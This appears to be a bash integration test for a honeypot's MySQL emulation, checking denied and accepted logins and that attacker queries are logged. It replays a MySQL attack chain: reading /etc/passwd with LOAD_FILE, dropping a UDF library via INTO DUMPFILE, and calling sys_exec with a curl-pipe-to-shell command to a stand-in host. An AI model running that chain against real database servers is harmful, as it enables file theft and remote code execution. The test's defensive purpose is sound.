#!/usr/bin/env bash
# The MariaDB client against the MySQL emulation with --mysql-accept: a wrong password is denied,
# the configured one gets in, and what attackers do after a login (version and plugin_dir,
# LOAD_FILE, a UDF library written with SELECT ... INTO DUMPFILE, CREATE FUNCTION ... SONAME)
# is answered as a server would and logged query by query. Nothing is read or written.
set -euo pipefail
. "$(dirname "$0")/honeypot_lib.bash"
need jq "apt-get install jq"
MYSQL=$(command -v mariadb || command -v mysql || true)
[ -n "$MYSQL" ] || { echo "SKIP: no mysql/mariadb client (apt-get install mariadb-client)"; exit 77; }

W=$(hp_workdir honeypot_mysql)
trap 'kill "${HP_PID:-0}" 2>/dev/null || true' EXIT
hp_start "$W" -- --mysql 0 --mysql-accept root:toor --mysql-accept admin:admin123 --flush-ms 20
M=$(hp_port mysql)
my() { "$MYSQL" -h 127.0.0.1 -P "$M" --batch --skip-column-names "$@"; }

if out=$(my -u root -pwrong -e 'select 1' 2>&1); then fail "wrong password accepted"; fi
echo "$out" | grep -q "Access denied for user 'root'" || fail "deny: $out"
out=$(my -u root -ptoor -e "select @@version; select @@plugin_dir; select load_file('/etc/passwd')") || fail "login: $out"
echo "$out" | grep -qx '5.7.42-0ubuntu0.18.04.1' || fail "version: $out"
echo "$out" | grep -qx '/usr/lib/mysql/plugin/' || fail "plugin_dir: $out"
echo "$out" | grep -q 'root:x:0:0:root' || fail "load_file: $out"
my -u admin -padmin123 -e "select 0x7f454c4602010100 into dumpfile '/usr/lib/mysql/plugin/udf.so'; create function sys_exec returns integer soname 'udf.so'; select sys_exec('curl http://203.0.113.9/x|sh')" >/dev/null \
  || fail "udf chain"
hp_stop

[ "$(hp_count '.eventid=="mysql.login" and .request.username=="root" and .request.password=="wrong"')" = 1 ] || fail "denied login"
[ "$(hp_count '.eventid=="mysql.query" and .request.query=="select load_file('"'"'/etc/passwd'"'"')"')" = 1 ] || fail "load_file event"
[ "$(hp_count '.eventid=="mysql.query" and ((.request.query // "")|test("into dumpfile .*udf.so"))')" = 1 ] || fail "dumpfile event"
[ "$(hp_count '.eventid=="mysql.query" and ((.request.query // "")|test("^create function sys_exec .*soname"))')" = 1 ] || fail "udf event"
[ "$(hp_count '.eventid=="mysql.query" and ((.request.query // "")|test("sys_exec\\(.curl"))')" = 1 ] || fail "udf call event"
echo "ok: $(hp_count '.eventid=="mysql.query"') queries logged"
